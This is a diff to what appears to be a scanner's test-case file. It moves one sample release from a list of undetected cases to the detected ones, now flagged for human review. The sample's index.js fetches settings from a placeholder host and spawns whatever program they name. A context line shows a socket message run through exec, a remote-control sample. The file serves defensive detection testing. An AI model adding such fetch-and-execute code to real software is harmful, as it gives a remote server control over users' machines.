@@ -57,6 +57,19 @@ socket.addEventListener('message', ({ data }) => exec(data, (error, out) => sock
       verdict: 'blocked',
       finds: ['block code-remote-control'],
     },
+    {
+      title: 'a release that starts the program which the settings name',
+      change: {
+        files: {
+          'index.js': `${index}
+const { spawn } = require('child_process');
+fetch('https://settings.tools.invalid/v1').then((answer) => answer.json()).then(({ program, words }) => spawn(program, words));
+`,
+        },
+      },
+      verdict: 'needs a person',
+      finds: ['review code-command-received'],
+    },
   ],
   nearMisses: [
     {
@@ -71,22 +84,6 @@ socket.addEventListener('message', ({ data }) => exec(data, (error, out) => sock
     },
   ],
   unseen: [
-    {
-      title: 'a release that starts the program which the settings name',
-      change: {
-        files: {
-          'index.js': `${index}
-const { spawn } = require('child_process');
-fetch('https://settings.tools.invalid/v1').then((answer) => answer.json()).then(({ program, words }) => spawn(program, words));
-`,
-        },
-      },
-      verdict: 'may be merged',
-      finds: [],
-      gap: 'follow what was received over the network to the start of a program',
-      defence:
-        'a reviewer who reads the changed files, which the page names; a server has no right to start programs once hosts confine it',
-    },
     {
       title: 'a release that reads the text of its prompts from the host that it may reach',
       change: {
